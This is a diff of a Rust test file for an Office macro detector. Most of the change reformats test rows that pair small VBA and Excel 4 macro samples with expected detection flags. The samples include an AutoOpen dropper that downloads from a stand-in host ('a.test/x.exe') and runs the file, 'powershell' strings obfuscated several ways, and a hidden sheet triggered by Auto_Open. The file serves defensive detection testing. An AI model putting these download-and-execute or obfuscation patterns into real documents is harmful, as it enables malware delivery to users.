@@ -13,38 +13,132 @@ fn source(what: &'static str, source: &str, remarks: &'static str) -> Row {
 #[test]
 fn what_visual_basic_does() {
     check(vec![
-        source("plain", "Sub Sums()\r\nx = 1 + 2\r\nEnd Sub", "MACRO_PRESENT !MACRO_AUTO_OPEN !MACRO_RUNS !MACRO_OBFUSCATED !MACRO_DOWNLOAD !MACRO_WRITES !MACRO_STOMPED"),
+        source(
+            "plain",
+            "Sub Sums()\r\nx = 1 + 2\r\nEnd Sub",
+            "MACRO_PRESENT !MACRO_AUTO_OPEN !MACRO_RUNS !MACRO_OBFUSCATED !MACRO_DOWNLOAD !MACRO_WRITES !MACRO_STOMPED",
+        ),
         source("no code", "", "!MACRO_PRESENT !MACRO_STOMPED"),
-        source("auto open", "Sub AutoOpen()\r\nx = 1\r\nEnd Sub", "MACRO_AUTO_OPEN !MACRO_SUSPICIOUS"),
+        source(
+            "auto open",
+            "Sub AutoOpen()\r\nx = 1\r\nEnd Sub",
+            "MACRO_AUTO_OPEN !MACRO_SUSPICIOUS",
+        ),
         source("document open", "Private Sub Document_Open()\r\nEnd Sub", "MACRO_AUTO_OPEN"),
         source("workbook open", "Private Sub Workbook_Open()\r\nEnd Sub", "MACRO_AUTO_OPEN"),
         source("active x", "Private Sub InkEdit1_GotFocus()\r\nEnd Sub", "MACRO_AUTO_OPEN"),
-        source("a name in a comment", "Sub A()\r\n' AutoOpen calls Shell\r\nEnd Sub", "!MACRO_AUTO_OPEN !MACRO_RUNS"),
+        source(
+            "a name in a comment",
+            "Sub A()\r\n' AutoOpen calls Shell\r\nEnd Sub",
+            "!MACRO_AUTO_OPEN !MACRO_RUNS",
+        ),
         source("a call of that name", "Sub A()\r\nAutoOpenAll\r\nEnd Sub", "!MACRO_AUTO_OPEN"),
         source("shell", "Sub A()\r\nShell \"calc\"\r\nEnd Sub", "MACRO_RUNS !MACRO_SUSPICIOUS"),
-        source("shell object", "Sub A()\r\nSet s = CreateObject(\"WScript.Shell\")\r\nEnd Sub", "MACRO_RUNS"),
-        source("an honest object", "Sub A()\r\nSet s = CreateObject(\"Scripting.Dictionary\")\r\nEnd Sub", "!MACRO_RUNS !MACRO_OBFUSCATED"),
-        source("wmi", "Sub A()\r\nGetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create x\r\nEnd Sub", "MACRO_RUNS"),
-        source("download", "Private Declare Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" ()", "MACRO_DOWNLOAD"),
-        source("xmlhttp", "Sub A()\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub", "MACRO_DOWNLOAD"),
+        source(
+            "shell object",
+            "Sub A()\r\nSet s = CreateObject(\"WScript.Shell\")\r\nEnd Sub",
+            "MACRO_RUNS",
+        ),
+        source(
+            "an honest object",
+            "Sub A()\r\nSet s = CreateObject(\"Scripting.Dictionary\")\r\nEnd Sub",
+            "!MACRO_RUNS !MACRO_OBFUSCATED",
+        ),
+        source(
+            "wmi",
+            "Sub A()\r\nGetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create x\r\nEnd Sub",
+            "MACRO_RUNS",
+        ),
+        source(
+            "download",
+            "Private Declare Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" ()",
+            "MACRO_DOWNLOAD",
+        ),
+        source(
+            "xmlhttp",
+            "Sub A()\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub",
+            "MACRO_DOWNLOAD",
+        ),
         source("winhttp", "Sub A()\r\nDim x As New WinHttpRequest\r\nEnd Sub", "MACRO_DOWNLOAD"),
         source("writes", "Sub A()\r\nOpen f For Output As #1\r\nEnd Sub", "MACRO_WRITES"),
         source("reads", "Sub A()\r\nOpen f For Input As #1\r\nEnd Sub", "!MACRO_WRITES"),
-        source("stream", "Sub A()\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile f, 2\r\nEnd Sub", "MACRO_WRITES"),
-        source("chr chain", "Sub A()\r\nx = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\nEnd Sub", "MACRO_OBFUSCATED MACRO_RUNS"),
-        source("line ends", "Sub A()\r\nx = \"a\" & Chr(13) & Chr(10)\r\nEnd Sub", "!MACRO_OBFUSCATED"),
-        source("reversed", "Sub A()\r\nx = StrReverse(\"llehSrewop\")\r\nEnd Sub", "MACRO_OBFUSCATED MACRO_RUNS"),
-        source("split", "Sub A()\r\nx = \"pow\" & \"ersh\" & \"ell\"\r\nEnd Sub", "MACRO_OBFUSCATED MACRO_RUNS"),
-        source("split over variables", "Sub A()\r\np = \"pow\"\r\np = p & \"ersh\"\r\np = p & \"ell\"\r\nEnd Sub", "MACRO_OBFUSCATED MACRO_RUNS"),
-        source("an honest join", "Sub A()\r\nx = \"Dear \" & \"reader\"\r\nEnd Sub", "!MACRO_OBFUSCATED"),
-        source("base64", "Sub A()\r\nx = \"cG93ZXJzaGVsbCAtbm9w\"\r\nEnd Sub", "MACRO_OBFUSCATED MACRO_RUNS"),
-        source("hex", "Sub A()\r\nx = \"706f7765727368656c6c\"\r\nEnd Sub", "MACRO_OBFUSCATED MACRO_RUNS"),
-        source("xor", "Sub A()\r\nFor i = 1 To 9\r\nx = x & Chr(Asc(Mid(s, i, 1)) Xor 7)\r\nNext\r\nEnd Sub", "MACRO_OBFUSCATED"),
-        source("random names", "Sub A()\r\nDim qwrtzpsdfg, xcvbnmkljh, bgtvfrcdxs, plmkzjnhbg, wsxqaztgbn, qgzhtrfkvb, zkxjhgtrbv, mnbvcxzlkj\r\nEnd Sub", "MACRO_OBFUSCATED"),
-        source("german names", "Sub A()\r\nDim Geschwindigkeit, Schlussrechnung, Angstschweiss, Herbststurm, Rechnungsbetrag, Kundennummer, Lieferschein, Buchungstext\r\nEnd Sub", "!MACRO_OBFUSCATED"),
-        source("dropper", "Sub AutoOpen()\r\nURLDownloadToFile 0, \"http://a.test/x.exe\", f, 0, 0\r\nShell f\r\nEnd Sub", "MACRO_DROPPER !MACRO_SUSPICIOUS"),
-        source("suspicious", "Sub Document_Open()\r\nShell \"calc.exe\"\r\nEnd Sub", "MACRO_SUSPICIOUS !MACRO_DROPPER"),
-        row("source as text", "a.docm", word_with_macro("Sub A()\r\nx = \"Bitte zahlen\"\r\nEnd Sub"), "MACRO_PRESENT", "Bitte zahlen"),
+        source(
+            "stream",
+            "Sub A()\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile f, 2\r\nEnd Sub",
+            "MACRO_WRITES",
+        ),
+        source(
+            "chr chain",
+            "Sub A()\r\nx = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\nEnd Sub",
+            "MACRO_OBFUSCATED MACRO_RUNS",
+        ),
+        source(
+            "line ends",
+            "Sub A()\r\nx = \"a\" & Chr(13) & Chr(10)\r\nEnd Sub",
+            "!MACRO_OBFUSCATED",
+        ),
+        source(
+            "reversed",
+            "Sub A()\r\nx = StrReverse(\"llehSrewop\")\r\nEnd Sub",
+            "MACRO_OBFUSCATED MACRO_RUNS",
+        ),
+        source(
+            "split",
+            "Sub A()\r\nx = \"pow\" & \"ersh\" & \"ell\"\r\nEnd Sub",
+            "MACRO_OBFUSCATED MACRO_RUNS",
+        ),
+        source(
+            "split over variables",
+            "Sub A()\r\np = \"pow\"\r\np = p & \"ersh\"\r\np = p & \"ell\"\r\nEnd Sub",
+            "MACRO_OBFUSCATED MACRO_RUNS",
+        ),
+        source(
+            "an honest join",
+            "Sub A()\r\nx = \"Dear \" & \"reader\"\r\nEnd Sub",
+            "!MACRO_OBFUSCATED",
+        ),
+        source(
+            "base64",
+            "Sub A()\r\nx = \"cG93ZXJzaGVsbCAtbm9w\"\r\nEnd Sub",
+            "MACRO_OBFUSCATED MACRO_RUNS",
+        ),
+        source(
+            "hex",
+            "Sub A()\r\nx = \"706f7765727368656c6c\"\r\nEnd Sub",
+            "MACRO_OBFUSCATED MACRO_RUNS",
+        ),
+        source(
+            "xor",
+            "Sub A()\r\nFor i = 1 To 9\r\nx = x & Chr(Asc(Mid(s, i, 1)) Xor 7)\r\nNext\r\nEnd Sub",
+            "MACRO_OBFUSCATED",
+        ),
+        source(
+            "random names",
+            "Sub A()\r\nDim qwrtzpsdfg, xcvbnmkljh, bgtvfrcdxs, plmkzjnhbg, wsxqaztgbn, qgzhtrfkvb, zkxjhgtrbv, mnbvcxzlkj\r\nEnd Sub",
+            "MACRO_OBFUSCATED",
+        ),
+        source(
+            "german names",
+            "Sub A()\r\nDim Geschwindigkeit, Schlussrechnung, Angstschweiss, Herbststurm, Rechnungsbetrag, Kundennummer, Lieferschein, Buchungstext\r\nEnd Sub",
+            "!MACRO_OBFUSCATED",
+        ),
+        source(
+            "dropper",
+            "Sub AutoOpen()\r\nURLDownloadToFile 0, \"http://a.test/x.exe\", f, 0, 0\r\nShell f\r\nEnd Sub",
+            "MACRO_DROPPER !MACRO_SUSPICIOUS",
+        ),
+        source(
+            "suspicious",
+            "Sub Document_Open()\r\nShell \"calc.exe\"\r\nEnd Sub",
+            "MACRO_SUSPICIOUS !MACRO_DROPPER",
+        ),
+        row(
+            "source as text",
+            "a.docm",
+            word_with_macro("Sub A()\r\nx = \"Bitte zahlen\"\r\nEnd Sub"),
+            "MACRO_PRESENT",
+            "Bitte zahlen",
+        ),
     ]);
 }
 
@@ -83,7 +177,8 @@ fn book(formulas: &[&[u8]], name: &[u8]) -> Vec<u8> {
     sheet.extend_from_slice(b"M1");
     let mut defined = vec![0x20, 0, 0, name.len() as u8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
     defined.extend_from_slice(name);
-    let mut records = vec![begin(5), (0x0085, sheet), (0x0018, defined), (0x000a, vec![]), begin(0x40)];
+    let mut records =
+        vec![begin(5), (0x0085, sheet), (0x0018, defined), (0x000a, vec![]), begin(0x40)];
     for formula in formulas {
         let mut data = vec![0; 20];
         data.extend_from_slice(&(formula.len() as u16).to_le_bytes());
@@ -99,7 +194,9 @@ fn macros_of_excel_4() {
     let char_exec: &[u8] = b"\x1e\x63\x00\x41\x6f\x00\x17\x03\x00alc\x08\x42\x01\x6e\0";
     let download: &[u8] = b"\x17\x06\x00urlmon\x17\x12\x00URLDownloadToFileA\x42\x02\x96\x00";
     let sheet = |formula: &str| {
-        format!("<xm:macrosheet><sheetData><row><c r='A1'><f>{formula}</f></c></row></sheetData></xm:macrosheet>")
+        format!(
+            "<xm:macrosheet><sheetData><row><c r='A1'><f>{formula}</f></c></row></sheetData></xm:macrosheet>"
+        )
     };
     let names = b"<workbook><sheets><sheet name='S' state='veryHidden'/></sheets><definedNames><definedName name='_xlnm.Auto_Open'>M!$A$1</definedName></definedNames></workbook>";
     let plain_names = b"<workbook><definedNames><definedName name='Total'>S!$A$1</definedName></definedNames></workbook>";
